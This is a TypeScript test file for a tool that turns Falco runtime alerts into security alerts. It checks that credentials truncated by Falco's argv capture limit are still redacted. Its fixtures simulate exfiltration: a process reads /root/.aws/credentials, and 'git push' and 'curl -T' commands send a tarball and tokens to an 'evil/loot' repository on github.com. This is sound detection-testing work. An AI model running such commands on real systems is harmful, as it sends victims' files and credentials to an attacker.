/**
 * Falco cuts argv at its 4 KiB capture limit anywhere, mid-token too (../../fixtures/falco/argv.ts): what is left
 * of a credential ends the command line, and the rules that know a credential by its whole shape (a token's length,
 * URL userinfo's `@`, a JWT's three parts) did not see one. The visible half must not reach the alert either: in
 * `process.args`, the response's command line, or the evidence, where the cut is followed by its note.
 */
import { describe, expect, it } from 'vitest';
import { normalizeFalco, parseFalcoJson } from '../../../src/formats/falco/index.js';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { falcoArgCount, falcoCmdline, falcoExe, socketFields } from '../../fixtures/falco/argv.js';
import { CONTAINER, falcoAlertText, T0 } from '../../fixtures/falco/events.js';
import { runResolved } from '../correlate/builder.js';

const GITHUB = '140.82.112.3'; // builder.ts TEST_DNS: github.com
const GHP = 'ghp_R4nd0mT0k3nV4lu3Abcdef0123456789XY';
const OPAQUE = 'Sx8kLp2QvR7tYwQ9';
const JWT = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW0ifQ.c2lnbmF0dXJlc2lnbmF0dXJl';

/** `argv` with its padding argument (index 2) sized so that Falco's cut falls in the middle of `secret`. */
function cutInSecret(argv: string[], secret: string): string[] {
  const area = Buffer.from(argv.join('\0'));
  const keep = area.indexOf(Buffer.from(secret)) + Math.ceil(secret.length / 2);
  // The copy keeps 4095 bytes of the area (its last byte made a NUL): lengthen the padding by what is missing.
  const padded = [...argv];
  padded[2] = `${argv[2]}${'A'.repeat(4095 - keep)}`;
  return padded;
}

/** Falco's alerts for: `argv` runs as `exepath`, reads a credential, connects to github.com and sends 3 KiB. */
function events(exepath: string, argv: readonly string[]): NormalizedEvent[] {
  const at = (ms: number) => T0 + BigInt(ms) * 1_000_000n;
  const proc = {
    ...CONTAINER,
    'proc.pid': 4100,
    'proc.ppid': 4000,
    'proc.vpid': 110,
    'proc.exepath': exepath,
    'proc.cmdline': falcoCmdline(exepath.slice(exepath.lastIndexOf('/') + 1), argv),
    'proc.pexepath': '/bin/sh',
    'proc.pcmdline': 'sh -c /entrypoint.sh',
    'user.uid': 0,
  };
  const texts = [
    falcoAlertText({
      evtTimeNs: at(0),
      fields: {
        ...proc,
        'proc.exe': falcoExe(argv),
        'proc.cmdnargs': falcoArgCount(argv),
        'evt.type': 'execve',
        'evt.rawres': 0,
      },
    }),
    falcoAlertText({
      evtTimeNs: at(10),
      fields: {
        ...proc,
        'evt.type': 'openat',
        'evt.rawres': 5,
        'fd.name': '/root/.aws/credentials',
        'fd.type': 'file',
      },
    }),
    falcoAlertText({
      evtTimeNs: at(40),
      fields: { ...proc, 'evt.type': 'connect', 'evt.rawres': 0, ...socketFields(GITHUB) },
    }),
    falcoAlertText({
      evtTimeNs: at(60),
      fields: { ...proc, 'evt.type': 'sendto', 'evt.rawres': 3072, ...socketFields(GITHUB) },
    }),
  ];
  return texts.map((t) => normalizeFalco(parseFalcoJson(t), { node: 'node-a' })).filter((e) => e !== null);
}

describe('a credential cut in half by Falco', () => {
  it.each([
    ['https://x-access-token:%s@github.com/evil/loot.git', GHP],
    ['https://bob:%s@github.com/evil/loot.git', OPAQUE],
    ['https://%s@github.com/evil/loot.git', OPAQUE],
    ['https://%s@github.com/evil/loot.git', GHP],
  ])('git push %s', async (remote, secret) => {
    const argv = cutInSecret(
      ['git', '-c', 'http.extraHeader=X-Pad: ', 'push', remote.replace('%s', secret), 'main'],
      secret,
    );
    const { alerts } = await runResolved(events('/usr/bin/git', argv));
    expect(alerts).toHaveLength(1);
    const half = secret.slice(0, Math.ceil(secret.length / 2));
    expect(JSON.stringify(alerts).toLowerCase()).not.toContain(half.toLowerCase());
    // What was cut is said, and the rest of the command line stays.
    expect(alerts[0]?.process.args).toMatch(/AAAA push https:\/\/(?:x-access-token:)?\[REDACTED\]$/);
    expect(
      alerts[0]?.evidence.some((e) =>
        / push https:\/\/(?:x-access-token:)?\[REDACTED\] \[…cut by the sensor: the rest of its command line is unknown\]$/.test(
          e.detail,
        ),
      ),
    ).toBe(true);
  });

  it.each([
    ['-H', 'Authorization: Bearer %s', JWT],
    ['-H', 'X-Auth: %s', JWT],
    ['-H', 'PRIVATE-TOKEN: %s', GHP],
  ])('curl %s %s', async (flag, header, secret) => {
    const argv = cutInSecret(
      [
        'curl',
        '-H',
        'X-Pad: ',
        '-T',
        '/tmp/d.tar',
        'https://uploads.github.com/repos/evil/loot/releases/1/assets',
        flag,
        header.replace('%s', secret),
      ],
      secret,
    );
    const { alerts } = await runResolved(events('/usr/bin/curl', argv));
    expect(alerts.length).toBeGreaterThan(0);
    const half = secret.slice(0, Math.ceil(secret.length / 2));
    expect(JSON.stringify(alerts)).not.toContain(half);
    expect(alerts[0]?.process.args).toContain('https://uploads.github.com/repos/evil/loot/releases/1/assets -H ');
  });
});
